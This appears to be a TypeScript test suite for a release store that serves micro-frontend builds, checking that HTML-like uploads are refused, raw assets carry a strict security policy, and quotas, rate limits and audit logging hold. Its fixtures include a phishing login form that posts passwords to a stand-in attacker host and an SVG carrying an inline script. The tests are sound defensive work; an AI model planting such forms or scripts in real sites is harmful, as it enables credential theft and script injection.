import { mkdir, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { BUNDLE_LIMITS } from 'contract/releases';
import { integrityOf } from './store/ReleaseFiles.js';
import { encodeBundle, remoteBundle, shellBundle } from './testing/bundles.js';
import { addTeam, createPublisher } from './testing/publisher.js';
import { setUpReleases } from './testing/setUpReleases.js';

const shop = setUpReleases();

const LOG_IN = '<form action="https://evil.example/take"><input name="password" type="password"></form>';
const RAW = "default-src 'none'; form-action 'none'; frame-ancestors 'none'; sandbox";
/** What browsers show as a document, whatever its extension is called. */
const DOCUMENTS = [
  'login.html',
  'login.htm',
  'login.HTML',
  'login.xhtml',
  'login.xml',
  'login.mhtml',
  'login.pdf',
  'login',
];

// B-release-107
it.each(DOCUMENTS)('a build of a remote with %s is not taken', async (path) => {
  const files = { [path]: integrityOf(Buffer.from(LOG_IN)) };
  const sound = remoteBundle('mf-order', 'a');
  const { record } = sound;
  const bundle = {
    record: { ...record, files: { ...record.files, ...files } },
    files: new Map([...sound.files, [path, Buffer.from(LOG_IN)]]),
  };
  const answer = await shop.team.send('mf-order', 'a', encodeBundle(bundle));
  expect(answer.statusCode).toBe(422);
  expect(answer.json().message).toContain(`${path} is of no kind that is served`);
  expect((await shop.site.app.inject(`/remotes/mf-order/a/${path}`)).statusCode).toBe(404);
});

// B-site-24
it.each(DOCUMENTS)('%s of a build that was stored before is sent to nobody', async (path) => {
  await shop.team.publish({ shell: shellBundle('1'), 'mf-order': remoteBundle('mf-order', 'a') });
  for (const folder of ['remotes/mf-order/a', 'shell/1']) {
    const file = join(shop.directory, 'releases', folder, path);
    await mkdir(dirname(file), { recursive: true });
    await writeFile(file, LOG_IN);
  }
  for (const url of [`/remotes/mf-order/a/${path}`, `/assets/shell/1/${path}`, '/assets/shell/1/index.html']) {
    const answer = await shop.site.app.inject({ url, headers: { accept: 'text/html' } });
    expect([url, answer.statusCode, answer.headers['content-security-policy']]).toEqual([url, 404, RAW]);
    expect(answer.body).not.toContain('evil');
  }
});

// B-site-24
it('what is answered raw from a build runs nothing and sends nothing, the pages of the shop may send forms to it', async () => {
  const picture = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';
  const order = remoteBundle('mf-order', 'a', {}, { 'logo.svg': picture, 'texts.json': '{}', 'node/build.js': '1' });
  await shop.team.publish({ shell: shellBundle('1'), 'mf-order': order });
  for (const url of ['logo.svg', 'texts.json', 'remoteEntry.js'].map((path) => `/remotes/mf-order/a/${path}`)) {
    const { statusCode, headers } = await shop.site.app.inject(url);
    expect(statusCode).toBe(200);
    expect(headers).toMatchObject({ 'content-security-policy': RAW, 'x-content-type-options': 'nosniff' });
  }
  const script = await shop.site.app.inject('/assets/shell/1/main.js');
  expect(script.headers).toMatchObject({ 'content-security-policy': RAW, 'x-content-type-options': 'nosniff' });
  expect((await shop.site.app.inject('/remotes/mf-order/a/node/build.js')).statusCode).toBe(404);
  const page = await shop.site.app.inject({ url: '/order', headers: { accept: 'text/html' } });
  expect(page.headers['content-security-policy']).toContain("form-action 'self'");
  expect(page.headers['content-security-policy']).not.toContain('sandbox');
});

describe('what a team stores', () => {
  // B-release-107
  it('is in the audit log before it ever goes live, and each package of a switch has a line', async () => {
    await shop.team.publish({ shell: shellBundle('1'), 'mf-order': remoteBundle('mf-order', 'a') });
    const lines = await shop.site.db
      .selectFrom('audit')
      .select(['actor', 'action', 'target', 'detail'])
      .orderBy('id')
      .execute();
    expect(lines).toMatchObject([
      { actor: 'everybody', action: 'release.store', target: 'shell', detail: { version: '1' } },
      { actor: 'everybody', action: 'release.store', target: 'mf-order', detail: { version: 'a' } },
      { action: 'release.publish', target: 'shell', detail: { versions: { shell: { from: null, to: '1' } } } },
      { action: 'release.publish', target: 'mf-order', detail: { versions: { 'mf-order': { from: null, to: 'a' } } } },
    ]);
  });

  const stored = (name: string, version: string, bytes: number, team = 'orders') => ({
    ...{ name, version, bytes, team, record: '{}', digest: null },
    ...{ storedAt: shop.site.clock.now(), usedUntil: shop.site.clock.now() },
  });
  const store = (rows: ReturnType<typeof stored>[]) =>
    shop.site.db.insertInto('releaseVersions').values(rows).execute();

  // B-release-107
  it.each([
    [
      'versions of a package',
      () => Array.from({ length: 200 }, (_, index) => stored('mf-order', `v${index}`, 1)),
      409,
      'mf-order has 200 versions in the store, as many as it may',
    ],
    ['bytes of a package', () => [stored('mf-order', 'v', 256 * 1024 * 1024)], 409, 'mf-order may store 256 MB'],
    [
      'bytes of a team',
      () => ['a', 'b', 'c', 'd'].map((name) => stored(`mf-${name}`, 'v', 256 * 1024 * 1024)),
      409,
      'Team orders may store 1024 MB',
    ],
  ])('is bounded: %s', async (_what, rows, status, why) => {
    const team = createPublisher(shop.site, await addTeam(shop.site, 'orders', 'mf-order'));
    await store(rows());
    const answer = await team.send('mf-order', 'new', encodeBundle(remoteBundle('mf-order', 'new')));
    expect(answer.statusCode).toBe(status);
    expect(answer.json()).toMatchObject({ code: 'RELEASE_QUOTA', message: expect.stringContaining(why) });
    expect((await shop.site.app.inject('/remotes/mf-order/new/remoteEntry.js')).statusCode).toBe(404);
  });

  // B-release-107
  it('is at most so many new versions an hour; the same version again is none', async () => {
    shop.site.deps.config.limits.releaseVersionsPerTeam = 2;
    const send = (version: string) =>
      shop.team.send('mf-order', version, encodeBundle(remoteBundle('mf-order', version)));
    expect((await send('a')).statusCode).toBe(201);
    expect((await send('b')).statusCode).toBe(201);
    expect((await send('b')).statusCode).toBe(200);
    const refused = await send('c');
    expect(refused.statusCode).toBe(429);
    expect(refused.json().message).toBe('Team everybody may send 2 new versions an hour. Nothing was stored.');
    shop.site.clock.advance(61 * 60 * 1000);
    expect((await send('c')).statusCode).toBe(201);
  });

  // B-release-107
  it('has files of a bounded number and size', () => {
    expect(BUNDLE_LIMITS).toMatchObject({ files: 1000, bytes: 32 * 1024 * 1024 });
  });
});
